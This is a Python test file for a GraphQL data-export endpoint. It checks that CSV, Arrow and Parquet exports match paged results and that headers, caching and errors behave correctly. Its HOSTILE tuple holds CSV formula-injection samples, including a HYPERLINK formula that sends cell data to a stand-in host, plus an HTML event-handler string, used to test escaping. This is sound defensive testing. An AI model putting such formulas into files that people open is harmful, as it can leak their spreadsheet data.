"""Connections as files: what comes is what paging by hand would give."""

from __future__ import annotations

import csv
import gzip
import io
import json
from datetime import datetime
from hashlib import sha256
from typing import TYPE_CHECKING, Any

import duckdb
import pandas as pd
import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import zstandard
from asgi import NOW, Client
from live_server import OBJECTS
from raw_asgi import get
from world import Shelf, World, amended

from kgraph.api import Limits
from kgraph.catalog import CatalogSource
from kgraph.log import Log
from kgraph.policy import ranking_v1
from kgraph.store import open_store
from kgraph.web import WebOptions, build_app

if TYPE_CHECKING:
    from collections.abc import Mapping
    from pathlib import Path

    import httpx

RUNS = """
query Runs($where: RunWhere, $first: Int, $after: String) {
  runs(where: $where, first: $first, after: $after) {
    totalCount
    pageInfo { hasNextPage endCursor }
    nodes {
      digest
      title
      status
      observedAt
      stale
      primary { value unit }
      environment { hardware { product memoryBytes } }
      workload { label axes { name value } }
      standing { rank tied ratioToLeader }
      implementation { title license { concluded } isBaseline }
    }
  }
}
"""
PLAIN = "{ runs { nodes { digest } } }"


@pytest.fixture(scope="module")
def starter(tmp_path_factory: pytest.TempPathFactory) -> CatalogSource:
    store = open_store(OBJECTS)
    folder = tmp_path_factory.mktemp("starter")
    return CatalogSource(Log(store), store, ranking_v1, folder=folder, clock=lambda: NOW)


def make_client(source: CatalogSource, **options: Any) -> Client:  # noqa: ANN401 - options of the application
    chosen = WebOptions(**{"refresh_seconds": 0, **options})
    return Client(build_app(source, options=chosen, clock=lambda: NOW))


@pytest.fixture(scope="module")
def client(starter: CatalogSource) -> Client:
    return make_client(starter)


def export(client: Client, document: str = PLAIN, **parameters: Any) -> httpx.Response:  # noqa: ANN401 - text, numbers or JSON
    headers = parameters.pop("headers", None)
    params = {
        name: json.dumps(value) if name == "variables" else value
        for name, value in parameters.items()
    }
    return client.send("GET", "/export", params={"query": document, **params}, headers=headers)


def read_arrow(response: httpx.Response) -> pa.Table:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/vnd.apache.arrow.stream"
    return pa.ipc.open_stream(response.content).read_all()


def read_csv(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def page_by_hand(
    client: Client, document: str, path: str, variables: Mapping[str, Any] | None = None
) -> list[dict[str, Any]]:
    """The nodes of a connection, asked for as any client does."""
    found: list[dict[str, Any]] = []
    after = None
    while True:
        data = client.data(document, {**(variables or {}), "first": 90, "after": after})
        for key in path.split("."):
            data = data[key]
        found += data["nodes"]
        if not data["pageInfo"]["hasNextPage"]:
            return found
        after = data["pageInfo"]["endCursor"]


def read_path(node: Any, name: str) -> Any:  # noqa: ANN401 - any JSON value
    for key in name.split("."):
        if node is None:
            return None
        node = node.get(key)
    return node


def plain(value: Any, kind: pa.DataType) -> Any:  # noqa: ANN401 - any JSON value
    """What stands in a file for a value of an answer."""
    if value is None:
        return None
    if pa.types.is_timestamp(kind):
        return datetime.fromisoformat(value)
    return value


def test_a_file_of_several_pages_is_what_paging_by_hand_gives(client: Client) -> None:
    variables = {"where": {"operation": {"contains": "liger-"}}}
    nodes = page_by_hand(client, RUNS, "runs", variables)
    assert len(nodes) == 1649

    table = read_arrow(export(client, RUNS, variables=variables, format="arrow"))

    assert table.num_rows == 1649
    for name in table.column_names:
        column = table[name]
        expected = [plain(read_path(node, name), column.type) for node in nodes]
        found = column.to_pylist()
        if name == "workload.axes":
            found = [json.loads(text) for text in found]
        assert found == expected, name


def test_the_three_forms_hold_the_same(client: Client) -> None:
    variables = {"where": {"operation": {"eq": "liger-distill-cosine-loss"}}}

    stream = read_arrow(export(client, RUNS, variables=variables, format="arrow"))
    content = export(client, RUNS, variables=variables, format="parquet").content
    file = pq.read_table(io.BytesIO(content))
    rows = read_csv(export(client, RUNS, variables=variables, format="csv"))

    assert file.equals(stream)
    assert len(rows) == stream.num_rows > 0
    for row, node in zip(rows, stream.to_pylist(), strict=True):
        assert list(row) == list(node)
        for name, value in node.items():
            match value:
                case None:
                    assert row[name] == ""
                case bool():
                    assert row[name] == str(value).lower()
                case datetime():
                    assert datetime.fromisoformat(row[name]) == value
                case float():
                    assert float(row[name]) == value
                case _:
                    assert row[name] == str(value)


CONNECTIONS = {
    "records": ("records", "value unit display since cohort { key recordEventCount }"),
    "recordHistory": ("recordHistory", "ordinal at cause value improvementPercent"),
    "cohorts": ("cohorts", "key profile metric { name unit } runCount lastObservedAt"),
    "workloads": ("workloads", "digest label isSuite dtypes axes { name value }"),
    "implementations": (
        "implementations",
        "digest title license { concluded } install { command }",
    ),
    "operations": ("operations", "slug title tags runCount lastObservedAt"),
    "families": ("families", "slug name operationCount"),
    "hardware": ("hardware", "__typename"),
    "sources": ("sources", "slug name license attribution"),
    "publications": ("publications", "sequence snapshot at by objectCount"),
    "projects": ("projects", "slug __typename"),
    "challenges": ("challenges", "product neighbourCount workload { label }"),
    "opportunities": ("opportunities", "__typename"),
}


@pytest.mark.parametrize("name", CONNECTIONS)
def test_every_kind_of_list_can_be_exported(client: Client, name: str) -> None:
    field, selection = CONNECTIONS[name]
    document = (
        f"query ($first: Int, $after: String) {{ {field}(first: $first, after: $after) "
        f"{{ totalCount pageInfo {{ hasNextPage endCursor }} nodes {{ {selection} }} }} }}"
    )
    nodes = page_by_hand(client, document, field)

    response = export(client, document, format="arrow")
    table = read_arrow(response)

    assert response.headers["kgraph-total-count"] == str(len(nodes)) == str(table.num_rows)
    for column_name in table.column_names:
        column = table[column_name]
        expected = [plain(read_path(node, column_name), column.type) for node in nodes]
        found = column.to_pylist()
        if any(isinstance(value, list) for value in expected):
            found = [json.loads(text) for text in found]
        assert found == expected, column_name


def test_a_connection_within_an_operation_is_named_by_its_path(client: Client) -> None:
    document = """
    query ($slug: String!, $first: Int, $after: String) {
      operation(slug: $slug) {
        workloads(first: $first, after: $after) {
          pageInfo { hasNextPage endCursor }
          nodes { digest label cohorts { key record { display } } }
        }
        implementations(first: 3) { nodes { title } }
      }
    }
    """
    slug = {"slug": "liger-rms-norm"}
    nodes = page_by_hand(client, document, "operation.workloads", slug)

    response = export(client, document, variables=slug, path="operation.workloads", format="arrow")

    table = read_arrow(response)
    assert table["digest"].to_pylist() == [node["digest"] for node in nodes]
    assert [json.loads(text) for text in table["cohorts"].to_pylist()] == [
        node["cohorts"] for node in nodes
    ]
    missing = export(client, document, variables=slug)
    assert missing.status_code == 400
    (error,) = missing.json()["errors"]
    assert error["extensions"] == {
        "code": "BAD_USER_INPUT",
        "argument": "path",
        "candidates": ["operation.implementations", "operation.workloads"],
    }


def test_an_empty_list_has_its_header_and_types(client: Client) -> None:
    variables = {"where": {"operation": {"eq": "nothing"}}}

    full = read_arrow(export(client, RUNS, format="arrow", limit=1))
    empty = read_arrow(export(client, RUNS, variables=variables, format="arrow"))
    text = export(client, RUNS, variables=variables).text

    assert empty.num_rows == 0
    assert empty.schema.equals(full.schema)
    assert text == ",".join(empty.column_names) + "\r\n"
    parquet = export(client, RUNS, variables=variables, format="parquet").content
    assert pq.read_schema(io.BytesIO(parquet)).equals(full.schema)


def test_parquet_is_read_by_duckdb_pandas_and_polars(client: Client, tmp_path: Path) -> None:
    file = tmp_path / "runs.parquet"
    file.write_bytes(export(client, RUNS, format="parquet").content)

    query = f"SELECT count(*), count(DISTINCT digest), min(\"primary.value\") FROM '{file}'"
    found = duckdb.connect().execute(query).fetchone()

    assert found is not None
    assert found[:2] == (1649, 1649)
    assert len(pd.read_parquet(file)) == len(pl.read_parquet(file)) == 1649


def test_the_file_says_what_it_is_of(client: Client, starter: CatalogSource) -> None:
    variables = {"where": {"stale": {"eq": False}}}
    response = export(client, RUNS, variables=variables, format="parquet")

    metadata = {
        key.decode(): value.decode()
        for key, value in pq.read_schema(io.BytesIO(response.content)).metadata.items()
    }

    assert metadata["kgraph.snapshot"] == starter.current().snapshot
    assert metadata["kgraph.documentId"] == f"sha256:{sha256(RUNS.encode()).hexdigest()}"
    assert metadata["kgraph.path"] == "runs"
    assert json.loads(metadata["kgraph.variables"]) == variables
    (source,) = json.loads(metadata["kgraph.sources"])
    assert (source["slug"], source["license"]) == ("liger-kernel-bench", "BSD-2-Clause")
    assert source["attribution"]
    stream = read_arrow(export(client, RUNS, variables=variables, format="arrow"))
    assert stream.schema.metadata[b"kgraph.sources"].decode() == metadata["kgraph.sources"]


def test_the_response_says_what_it_is_and_when_to_ask_again(
    client: Client, starter: CatalogSource
) -> None:
    response = export(client, RUNS, limit=2)

    snapshot = starter.current().snapshot
    assert response.headers["kgraph-snapshot"] == snapshot
    assert response.headers["cache-control"] == "no-cache"
    assert response.headers["content-disposition"] == (
        f'attachment; filename="kgraph-{snapshot[7:15]}-Runs.csv"'
    )
    assert response.headers["vary"] == "Accept, Accept-Encoding, Kgraph-Snapshot"
    assert "content-length" not in response.headers
    etag = response.headers["etag"]
    known = export(client, RUNS, limit=2, headers={"if-none-match": f'"x", W/{etag}'})
    assert (known.status_code, known.content) == (304, b"")
    assert known.headers["etag"] == etag


@pytest.mark.parametrize(
    "change",
    [
        {"limit": 3},
        {"format": "arrow"},
        {"bom": 1},
        {"raw": "true"},
        {"document": RUNS.replace("title\n", "", 1)},
        {"document": RUNS + "\n"},
        {"variables": {"where": {"stale": {"eq": False}}}},
        {"headers": {"accept-encoding": "gzip"}},
    ],
    ids=lambda change: repr(change)[:30],
)
def test_other_bytes_have_another_validator(client: Client, change: dict[str, Any]) -> None:
    etag = export(client, RUNS, limit=2).headers["etag"]

    asked = {"document": RUNS, "limit": 2, **change}

    assert export(client, **asked).headers["etag"] != etag


def test_the_same_request_gives_the_same_bytes(client: Client) -> None:
    for form in ("csv", "parquet", "arrow"):
        first, second = (export(client, RUNS, format=form, limit=300) for _ in range(2))
        assert first.headers["etag"] == second.headers["etag"]
        assert first.content == second.content


def test_head_says_what_get_would_send(client: Client) -> None:
    got = export(client, RUNS, limit=2)

    headed = client.send("HEAD", "/export", params={"query": RUNS, "limit": 2})

    assert (headed.status_code, headed.content) == (200, b"")
    differing = {"x-request-id"}
    assert {k: v for k, v in headed.headers.items() if k not in differing} == {
        k: v for k, v in got.headers.items() if k not in differing
    }
    assert client.send("HEAD", "/export", params={"query": "{"}).status_code == 400


@pytest.mark.parametrize(
    ("accept", "media_type"),
    [
        (None, "text/csv; charset=utf-8; header=present"),
        ("*/*", "text/csv; charset=utf-8; header=present"),
        ("text/html,*/*;q=0.8", "text/csv; charset=utf-8; header=present"),
        ("application/vnd.apache.parquet", "application/vnd.apache.parquet"),
        (
            "text/csv;q=0.1, application/vnd.apache.arrow.stream",
            "application/vnd.apache.arrow.stream",
        ),
        ("application/*", "application/vnd.apache.parquet"),
    ],
)
def test_the_form_is_negotiated(client: Client, accept: str | None, media_type: str) -> None:
    headers = {} if accept is None else {"accept": accept}

    response = export(client, limit=1, headers=headers)

    assert response.headers["content-type"] == media_type


def test_a_form_that_is_named_wins_over_what_is_accepted(client: Client) -> None:
    response = export(client, limit=1, format="csv", headers={"accept": "application/json"})

    assert response.headers["content-type"].startswith("text/csv")


def test_who_accepts_no_form_is_told_so(client: Client) -> None:
    response = export(client, headers={"accept": "application/json"})

    assert response.status_code == 406
    assert response.json()["errors"][0]["extensions"]["code"] == "NOT_ACCEPTABLE"


@pytest.mark.parametrize(
    ("coding", "decode"),
    [
        ("gzip", gzip.decompress),
        ("zstd", lambda content: zstandard.ZstdDecompressor().decompressobj().decompress(content)),
    ],
    ids=["gzip", "zstd"],
)
def test_text_is_compressed_where_the_client_takes_it(
    starter: CatalogSource,
    coding: str,
    decode: Any,  # noqa: ANN401 - a function of bytes
) -> None:
    app = build_app(starter, options=WebOptions(refresh_seconds=0), clock=lambda: NOW)
    query = {"query": RUNS, "limit": "450"}
    plain = get(app, "/export", query)

    sent = get(app, "/export", query, {"accept-encoding": coding})

    assert sent.headers["content-encoding"] == coding
    assert len(sent.body) < len(plain.body) / 3
    assert decode(sent.body) == plain.body
    assert "content-encoding" not in plain.headers


def test_parquet_is_compressed_inside_and_not_again(client: Client) -> None:
    response = export(client, RUNS, format="parquet", headers={"accept-encoding": "gzip"})

    assert "content-encoding" not in response.headers


def test_first_is_how_long_a_page_is_and_no_limit(client: Client) -> None:
    digests = [row["digest"] for row in read_csv(export(client, PLAIN, limit=30))]

    document = "{ runs(first: 7) { nodes { digest } } }"
    assert len(read_csv(export(client, document))) == 1649
    assert [row["digest"] for row in read_csv(export(client, document, limit=30))] == digests


def test_an_export_goes_on_behind_a_cursor(client: Client) -> None:
    document = "query ($from: String) { runs(after: $from) { edges { cursor node { digest } } } }"
    whole = read_csv(export(client, document, limit=300))

    rest = read_csv(export(client, document, limit=100, variables={"from": whole[199]["cursor"]}))

    assert rest == whole[200:]
    assert list(rest[0]) == ["cursor", "node.digest"]


def test_pages_are_as_long_as_their_cost_allows(starter: CatalogSource) -> None:
    document = "{ runs { nodes { digest cohort { ranking(first: 10) { nodes { rank } } } } } }"
    tight = make_client(starter, limits=Limits(cost=1_300))

    assert len(read_csv(export(tight, document, limit=250))) == 250
    refused = export(tight, document.replace("runs {", "runs(first: 200) {"))
    assert refused.status_code == 400
    (error,) = refused.json()["errors"]
    assert error["extensions"]["code"] == "LIMIT_COST"
    assert error["extensions"]["limit"] == 1_300


@pytest.mark.parametrize(
    ("parameters", "status", "code"),
    [
        ({"document": "{ runs {"}, 400, "GRAPHQL_PARSE_FAILED"),
        ({"document": "{ runs { nodes { price } } }"}, 400, "GRAPHQL_VALIDATION_FAILED"),
        ({"document": ""}, 400, "BAD_REQUEST"),
        ({"variables": [1]}, 400, "BAD_REQUEST"),
        ({"document": RUNS, "variables": {"first": "x"}}, 400, "BAD_USER_INPUT"),
        ({"operationName": "Other"}, 400, "OPERATION_RESOLUTION_FAILURE"),
        ({"document": "{ catalog { snapshot } }"}, 400, "BAD_USER_INPUT"),
        ({"path": "records"}, 400, "BAD_USER_INPUT"),
        ({"document": "subscription { published { at } }"}, 400, "BAD_USER_INPUT"),
        ({"document": "{ runs(first: 500) { nodes { digest } } }"}, 400, "BAD_USER_INPUT"),
        ({"document": '{ runs(after: "x") { nodes { digest } } }'}, 400, "BAD_CURSOR"),
        (
            {"document": '{ operation(slug: "x") { workloads { nodes { label } } } }'},
            404,
            "NOT_FOUND",
        ),
        ({"format": "xlsx"}, 400, "BAD_REQUEST"),
        ({"format": "arrow", "bom": "1"}, 400, "BAD_REQUEST"),
        ({"bom": "yes"}, 400, "BAD_REQUEST"),
        ({"limit": "many"}, 400, "BAD_REQUEST"),
        ({"limit": "-1"}, 400, "BAD_REQUEST"),
        ({"limit": "0"}, 400, "BAD_USER_INPUT"),
        ({"limit": "1000001"}, 400, "BAD_USER_INPUT"),
        ({"limit": "9" * 4000}, 400, "BAD_USER_INPUT"),
        ({"snapshot": "blake3:" + "ab" * 32}, 400, "UNKNOWN_SNAPSHOT"),
        ({"asOf": "yesterday"}, 400, "BAD_REQUEST"),
    ],
    ids=lambda value: str(value)[:60] if isinstance(value, dict) else None,
)
def test_what_is_wrong_before_the_first_row_is_an_error(
    client: Client, parameters: dict[str, Any], status: int, code: str
) -> None:
    response = export(client, **parameters)

    assert response.status_code == status, response.text
    assert response.headers["content-type"] == "application/json"
    assert response.headers["cache-control"] == "no-store"
    (error,) = response.json()["errors"]
    assert error["extensions"]["code"] == code


def test_an_error_names_the_path_and_no_place_in_a_document_of_ours(client: Client) -> None:
    document = '{ mine: runs(after: "x") { nodes { digest } } }'

    response = export(client, document)
    (error,) = response.json()["errors"]

    assert response.json()["extensions"] == {"snapshot": response.headers["kgraph-snapshot"]}
    assert error["path"] == ["mine"]
    assert "locations" not in error
    assert error["extensions"]["argument"] == "after"
    (refused,) = export(client, "{ runs { nodes { price } } }").json()["errors"]
    assert refused["locations"] == [{"line": 1, "column": 18}]


def test_only_reading_is_answered(client: Client) -> None:
    assert client.send("POST", "/export", json={"query": PLAIN}).status_code == 405


def test_named_documents_are_answered_and_others_are_not_where_they_are_refused(
    starter: CatalogSource,
) -> None:
    name = sha256(RUNS.encode()).hexdigest()
    closed = make_client(starter, documents={name: RUNS, "own": PLAIN}, only_documents=True)

    def ask(**params: str) -> httpx.Response:
        return closed.send("GET", "/export", params={"limit": "3", **params})

    assert len(read_csv(ask(documentId=f"sha256:{name}"))) == 3
    assert len(read_csv(ask(documentId="own"))) == 3
    # A trusted document may still be sent as text.
    assert len(read_csv(ask(query=RUNS))) == 3
    for params, code in (
        ({"query": "{ records { nodes { value } } }"}, "DOCUMENT_NOT_TRUSTED"),
        ({"documentId": "other"}, "PERSISTED_DOCUMENT_NOT_FOUND"),
        ({"documentId": f"sha256:{name}", "query": PLAIN}, "PERSISTED_DOCUMENT_MISMATCH"),
    ):
        response = ask(**params)
        assert response.status_code == 400
        assert response.json()["errors"][0]["extensions"]["code"] == code


def test_sheets_and_files_of_the_whole_catalogue_are_served_side_by_side(
    starter: CatalogSource, tmp_path: Path
) -> None:
    client = make_client(starter, export_folder=tmp_path)

    assert client.send("GET", "/export/dictionary.json").status_code == 200
    assert len(read_csv(export(client, limit=1))) == 1


HOSTILE = (
    '=HYPERLINK("http://example.org?"&A1,"open")',
    "+1+1",
    "@SUM(A1:A9)",
    "-2+3",
    '<b onmouseover="x">bold</b>',
    'He said "no", twice',
    "line\r\nbreak",
    "عنوان 🚀 \u202e reversed",
    "x" * 200,
)


class Renamed(World):
    """A catalogue whose runs have titles that nobody should trust."""

    def __init__(self) -> None:
        super().__init__()
        self.later = [
            amended(run, title=title) for run, title in zip(self.runs, HOSTILE, strict=False)
        ]


@pytest.fixture
def renamed(tmp_path: Path) -> tuple[Renamed, Shelf, CatalogSource]:
    world, shelf = Renamed(), Shelf(tmp_path)
    shelf.publish(world.all)
    shelf.publish(world.later)
    source = CatalogSource(shelf.log, shelf.store, ranking_v1, folder=tmp_path, clock=lambda: NOW)
    return world, shelf, source


TITLES = "{ runs(orderBy: [{ field: OBSERVED_AT }]) { nodes { title } } }"


def test_hostile_titles_are_text_in_every_form(
    renamed: tuple[Renamed, Shelf, CatalogSource],
) -> None:
    client = make_client(renamed[2])

    exact = read_arrow(export(client, TITLES, format="arrow"))["title"].to_pylist()
    raw = [row["title"] for row in read_csv(export(client, TITLES, raw=1))]
    safe = [row["title"] for row in read_csv(export(client, TITLES, bom=1))]

    assert exact[: len(HOSTILE)] == list(HOSTILE)
    assert raw == exact
    assert safe[: len(HOSTILE)] == [
        f"'{title}" if title[0] in "=+-@" else title for title in HOSTILE
    ]


def test_a_pin_answers_from_its_snapshot_for_good(
    renamed: tuple[Renamed, Shelf, CatalogSource],
) -> None:
    _, shelf, source = renamed
    client = make_client(source)
    first = next(iter(shelf.log.entries())).object_id
    before = [row["title"] for row in read_csv(export(client, TITLES, snapshot=first))]

    for pin in ({"snapshot": first}, {"headers": {"kgraph-snapshot": first}}):
        response = export(client, TITLES, **pin)
        assert response.headers["kgraph-snapshot"] == first
        assert response.headers["cache-control"] == "public, max-age=31536000, immutable"
        assert [row["title"] for row in read_csv(response)] == before
    assert before != [row["title"] for row in read_csv(export(client, TITLES))]
    assert not set(HOSTILE) & set(before)
